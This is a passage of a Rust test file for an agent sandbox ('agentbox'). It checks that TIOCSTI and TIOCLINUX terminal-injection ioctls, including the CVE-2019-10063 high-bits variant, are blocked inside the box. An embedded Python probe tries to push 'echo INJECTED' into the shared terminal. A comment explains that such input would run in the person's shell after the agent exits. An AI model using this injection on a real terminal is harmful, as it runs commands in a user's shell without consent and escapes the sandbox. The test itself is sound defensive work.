    assert_eq!(r, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: fresh descriptors we own.
    unsafe {
        libc::fcntl(m, libc::F_SETFD, libc::FD_CLOEXEC);
        libc::fcntl(s, libc::F_SETFD, libc::FD_CLOEXEC);
        (OwnedFd::from_raw_fd(m), OwnedFd::from_raw_fd(s))
    }
}

/// Session leader on the pty: runs its arguments (agentbox, or the probe directly for the
/// control), then drains whatever was queued as terminal input and reports it.
const TTY_WRAPPER: &str = r#"
import os, subprocess, sys, termios, time, tty
rc = subprocess.call(sys.argv[1:])
time.sleep(0.05)
tty.setraw(0, termios.TCSANOW)
os.set_blocking(0, False)
try:
    q = os.read(0, 4096)
except BlockingIOError:
    q = b''
sys.stdout.write('\r\nQUEUE=' + q.hex() + '\r\nRC=' + str(rc) + '\r\n')
sys.stdout.flush()
"#;

const TIOCSTI_PROBE: &str = r#"
import fcntl
def sti(fd, req, text):
    for ch in text:
        c = ctypes.c_char(ch.encode())
        r = sc('ioctl', fd, req, ctypes.byref(c))
        if r != 'OK':
            return r
    return 'OK'
TIOCSTI = int(A[0]); TIOCLINUX = int(A[1])
report('sti', lambda: sti(0, TIOCSTI, 'echo INJ' + 'ECTED\n'))
report('sti_hi', lambda: sti(0, TIOCSTI | (1 << 32), 'echo INJ' + 'ECTED\n'))
report('sti_devtty', lambda: sti(os.open('/dev/tty', os.O_RDWR), TIOCSTI, 'echo INJ' + 'ECTED\n'))
report('sti_stderr', lambda: sti(2, TIOCSTI, 'echo INJ' + 'ECTED\n'))
sub = ctypes.c_char(b'\x06')  # TIOCL_GETSHIFTSTATE
report('linux', lambda: sc('ioctl', 0, TIOCLINUX, ctypes.byref(sub)))
report('linux_hi', lambda: sc('ioctl', 0, TIOCLINUX | (1 << 32), ctypes.byref(sub)))
"#;

/// Run `argv` under the wrapper on a fresh pty as its controlling terminal; returns everything
/// the terminal showed.
fn run_on_pty(f: &Fixture, argv: &[String]) -> String {
    let (master, slave) = openpty();
    if f.owner == As::User {
        if let Some((uid, gid)) = test_user() {
            // SAFETY: fchown on our own descriptor.
            unsafe { libc::fchown(slave.as_raw_fd(), uid, gid) };
        }
    }
    let mut c = Command::new(python());
    c.arg("-c")
        .arg(TTY_WRAPPER)
        .args(argv)
        .current_dir(&f.ws)
        .env_clear()
        .env("PATH", PATH)
        .env("HOME", &f.home)
        .env("TERM", "xterm")
        .env("LANG", "C.UTF-8");
    for (k, v) in secrets() {
        c.env(k, v);
    }
    as_who(&mut c, f.owner);
    c.stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::from(slave.try_clone().unwrap()));
    // SAFETY: setsid and ioctl are async-signal-safe.
    unsafe {
        c.pre_exec(|| {
            if libc::setsid() < 0 {
                return Err(std::io::Error::last_os_error());
            }
            if libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = c.spawn().expect("spawn on pty");
    drop(c);
    drop(slave);
    // SAFETY: fcntl on our own descriptor.
    unsafe { libc::fcntl(master.as_raw_fd(), libc::F_SETFL, libc::O_NONBLOCK) };
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut exited_at = None;
    loop {
        let mut pfd = libc::pollfd {
            fd: master.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one pollfd.
        unsafe { libc::poll(&mut pfd, 1, 20) };
        let mut buf = [0u8; 4096];
        // SAFETY: reading into our buffer.
        let n = unsafe { libc::read(master.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if n > 0 {
            seen.extend_from_slice(&buf[..n as usize]);
            continue;
        }
        if exited_at.is_none() && child.try_wait().unwrap().is_some() {
            exited_at = Some(Instant::now());
        }
        // EIO: every slave closed. Otherwise give late output a moment after the exit.
        let eio = n < 0 && std::io::Error::last_os_error().raw_os_error() == Some(libc::EIO);
        if eio || exited_at.is_some_and(|t| t.elapsed() > Duration::from_millis(300)) {
            break;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "pty run timed out; output so far:\n{}",
                String::from_utf8_lossy(&seen)
            );
        }
    }
    let _ = child.wait();
    String::from_utf8_lossy(&seen).into_owned()
}

fn queue_of(text: &str) -> String {
    let hex = text
        .split("QUEUE=")
        .nth(1)
        .map(|r| r.split(|c: char| c.is_whitespace()).next().unwrap_or(""))
        .unwrap_or("<missing>");
    if hex == "<missing>" {
        return hex.into();
    }
    (0..hex.len() / 2)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}

fn term_val(text: &str, key: &str) -> String {
    text.split(&format!("{key}="))
        .nth(1)
        .map(|r| {
            r.split(|c: char| c.is_whitespace())
                .next()
                .unwrap_or("")
                .to_string()
        })
        .unwrap_or_else(|| "<missing>".into())
}

// TIOCSTI on the terminal the box shares with the person (here a real pty that is the
// controlling terminal of agentbox's session): typed-in commands would run in the person's
// shell after the agent exits. Also the high-bits request (CVE-2019-10063), /dev/tty and
// stderr, and TIOCLINUX.
#[test]
fn tiocsti_and_tioclinux_on_the_shared_terminal() {
    #[allow(clippy::unnecessary_cast)] // c_ulong is u64 on x86_64 and aarch64 gnu, not everywhere
    let sti = (libc::TIOCSTI as u64).to_string();
    #[allow(clippy::unnecessary_cast)]
    let linux = (libc::TIOCLINUX as u64).to_string();
    for who in who() {
        let f = Fixture::new(who);
        let script = py_script(TIOCSTI_PROBE);
        let probe: Vec<String> = [python(), "-c", &script, &sti, &linux]
            .iter()
            .map(|s| s.to_string())
            .collect();
        // Control: the same probe straight on the terminal injects.
        let text = run_on_pty(&f, &probe);
        assert_eq!(
            term_val(&text, "sti"),
            "OK",
            "[{who:?}] control: TIOCSTI works on the host\n{text}"
        );
        assert!(
            queue_of(&text).contains("echo INJECTED"),
            "[{who:?}] control: input queued\n{text}"
        );
        // In the box.
        let mut argv: Vec<String> = vec![bin().to_str().unwrap().into(), "run".into(), "-q".into()];
        argv.extend(FULL.iter().map(|s| s.to_string()));
        argv.push("--".into());
        argv.extend(probe.iter().cloned());
        let text = run_on_pty(&f, &argv);
        let ctx = format!("[{who:?}] TIOCSTI in the box");
        for k in [
            "sti",
            "sti_hi",
            "sti_devtty",
            "sti_stderr",
            "linux",
            "linux_hi",
        ] {
            assert_eq!(term_val(&text, k), "EPERM", "{ctx}: {k}\n{text}");
        }
        assert_eq!(term_val(&text, "DONE"), "1", "{ctx}\n{text}");
        assert!(
            !text.contains("INJECTED"),
            "{ctx}: injected text echoed\n{text}"
        );
        assert_eq!(queue_of(&text), "", "{ctx}: injected input queued\n{text}");
        assert_eq!(term_val(&text, "RC"), "0", "{ctx}\n{text}");
    }
}
